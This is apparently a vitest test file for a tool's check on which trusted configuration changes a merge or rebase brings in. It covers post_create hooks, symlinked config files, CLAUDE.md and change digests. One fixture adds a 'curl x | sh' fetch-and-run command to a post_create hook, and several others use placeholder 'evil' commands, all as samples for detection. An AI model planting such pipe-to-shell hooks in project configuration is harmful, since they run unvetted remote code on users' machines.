import { execFileSync } from "node:child_process";
import { mkdir, rm, symlink, writeFile } from "node:fs/promises";
import path from "node:path";
import { afterEach, describe, expect, it } from "vitest";
import { type TempTree, tempTree } from "../../test/fixtures/config/temp-tree.ts";
import { mainGit } from "./repo.ts";
import {
  changedFiles,
  changesDigest,
  hostRunChanges,
  pathsTouched,
  stateOfTree,
  stateOnDisk,
  trustedPaths,
} from "./trusted-files.ts";

let tree: TempTree | undefined;
afterEach(async () => {
  await tree?.remove();
  tree = undefined;
});

const env = { PATH: process.env.PATH };

async function repo(files: Record<string, string>) {
  const t = await tempTree(files);
  tree = t;
  const root = t.at("r");
  await mkdir(root, { recursive: true });
  const git = (...args: string[]) =>
    execFileSync("git", ["-c", "user.name=T", "-c", "user.email=t@example.invalid", ...args], {
      cwd: root,
      env: { ...env, HOME: t.root },
      encoding: "utf8",
    }).trim();
  git("init", "-q", "-b", "main");
  const commit = (message: string) => {
    git("add", "-A");
    git("commit", "-q", "--allow-empty", "-m", message);
    return git("rev-parse", "HEAD");
  };
  const safe = mainGit({ root, commonDir: path.join(root, ".git") }, env);
  const at = (rel: string) => path.join(root, rel);
  return { root, git, commit, safe, at };
}

/** The trusted-file changes between two commits, as the merge's check on trees sees them. */
async function compare(
  r: Awaited<ReturnType<typeof repo>>,
  from: string,
  to: string,
  defaultPanes = false,
) {
  const before = await stateOfTree(r.safe, r.root, from);
  const after = await stateOfTree(r.safe, r.root, to);
  const files = changedFiles(before, after, defaultPanes);
  return { files, changes: hostRunChanges(before, after, files, defaultPanes) };
}

describe("what a merge changes in the files wm reads as configuration", () => {
  it("host-run keys count, keys a worktree may set do not; project files at any depth count", async () => {
    const r = await repo({ "r/.workmux.yaml": "mode: window\npost_create: [make]\n" });
    const base = r.commit("base");
    await writeFile(r.at(".workmux.yaml"), "mode: session\npost_create: [make]\n");
    const cosmetic = r.commit("cosmetic");
    const c1 = await compare(r, base, cosmetic);
    expect(c1.files).toEqual([".workmux.yaml"]);
    expect(c1.changes).toEqual([]);

    await writeFile(r.at(".workmux.yaml"), "mode: session\npost_create: [make, 'curl x | sh']\n");
    await mkdir(r.at("pkg/api"), { recursive: true });
    await writeFile(r.at("pkg/api/.workmux.yml"), "status_icons: { done: ok }\n");
    const hooks = r.commit("hooks");
    const c2 = await compare(r, cosmetic, hooks);
    expect(c2.files).toEqual([".workmux.yaml", "pkg/api/.workmux.yml"]);
    expect(c2.changes).toMatchObject([
      {
        file: ".workmux.yaml",
        keys: ["post_create"],
        old: { post_create: ["make"] },
        new: { post_create: ["make", "curl x | sh"] },
      },
      // A new file shadows the one above it for commands run below it, even with safe keys only.
      { file: "pkg/api/.workmux.yml", keys: [], old: null, new: {} },
    ]);
    expect(c2.changes[1]?.note).toContain("is added");
  });

  it("a project file that is a symbolic link is read through it, also through a linked directory", async () => {
    const r = await repo({
      "r/cfgA/w.yaml": "post_create: [a]\n",
      "r/cfgB/w.yaml": "post_create: [evil]\n",
    });
    await symlink("cfgA", r.at("conf"));
    await symlink("conf/w.yaml", r.at(".workmux.yaml"));
    const base = r.commit("base");
    // The link itself stays; what it leads to changes.
    await writeFile(r.at("cfgA/w.yaml"), "post_create: [b]\n");
    const target = r.commit("target changes");
    const c1 = await compare(r, base, target);
    expect(c1.files).toEqual([".workmux.yaml"]);
    expect(c1.changes[0]).toMatchObject({ keys: ["post_create"], new: { post_create: ["b"] } });
    // A directory link on the way is repointed.
    await rm(r.at("conf"));
    await symlink("cfgB", r.at("conf"));
    const repointed = r.commit("repointed");
    const c2 = await compare(r, target, repointed);
    expect(c2.changes[0]).toMatchObject({
      file: ".workmux.yaml",
      new: { post_create: ["evil"] },
    });
    expect(c2.changes[0]?.note).toContain("cfgB/w.yaml");
  });

  it("the check on disk agrees with the check on trees, so a confirmation carries over", async () => {
    const r = await repo({ "r/cfg/w.yaml": "post_create: [a]\n", "r/sub/.workmux.yml": "x: 1\n" });
    await symlink("cfg/w.yaml", r.at(".workmux.yaml"));
    const base = r.commit("base");
    const onDiskBase = await stateOnDisk(r.root, await trustedPaths(r.safe, [base]));
    await writeFile(r.at("cfg/w.yaml"), "post_create: [b]\n");
    const next = r.commit("next");
    const onDiskNext = await stateOnDisk(r.root, await trustedPaths(r.safe, [base, next]));
    const fromDisk = hostRunChanges(
      onDiskBase,
      onDiskNext,
      changedFiles(onDiskBase, onDiskNext, false),
      false,
    );
    const fromTrees = (await compare(r, base, next)).changes;
    expect(fromDisk).toEqual(fromTrees);
    expect(changesDigest(fromDisk)).toBe(changesDigest(fromTrees));
    expect(fromDisk).toHaveLength(1);
  });

  it("CLAUDE.md counts only when it picks the default panes", async () => {
    const r = await repo({ "r/README.md": "x\n" });
    const base = r.commit("base");
    await writeFile(r.at("CLAUDE.md"), "be nice\n");
    const added = r.commit("claude");
    expect((await compare(r, base, added, false)).files).toEqual([]);
    const c = await compare(r, base, added, true);
    expect(c.files).toEqual(["CLAUDE.md"]);
    expect(c.changes[0]).toMatchObject({ file: "CLAUDE.md", keys: ["panes"] });
    await writeFile(r.at("CLAUDE.md"), "be nicer\n");
    const edited = r.commit("edit");
    expect((await compare(r, added, edited, true)).files).toEqual([]);
  });

  it("a confirmation's digest names the change", async () => {
    const r = await repo({ "r/.workmux.yaml": "post_create: [a]\n" });
    const base = r.commit("base");
    await writeFile(r.at(".workmux.yaml"), "post_create: [b]\n");
    const b = r.commit("b");
    await writeFile(r.at(".workmux.yaml"), "post_create: [c]\n");
    const c = r.commit("c");
    const one = changesDigest((await compare(r, base, b)).changes);
    const other = changesDigest((await compare(r, base, c)).changes);
    expect(one).toMatch(/^[0-9a-f]{64}$/);
    expect(one).not.toBe(other);
    expect(changesDigest((await compare(r, base, b)).changes)).toBe(one);
  });

  it("for a rebase, the paths each replayed commit writes count, not only the net change", async () => {
    const r = await repo({ "r/README.md": "x\n" });
    r.commit("base");
    r.git("checkout", "-q", "-b", "agent");
    await writeFile(r.at(".workmux.yaml"), "post_create: [evil]\n");
    r.commit("add");
    await rm(r.at(".workmux.yaml"));
    r.commit("remove");
    expect(await pathsTouched(r.safe, "main", "agent", false)).toEqual([]);
    expect(await pathsTouched(r.safe, "main", "agent", true)).toEqual([".workmux.yaml"]);
  });
});
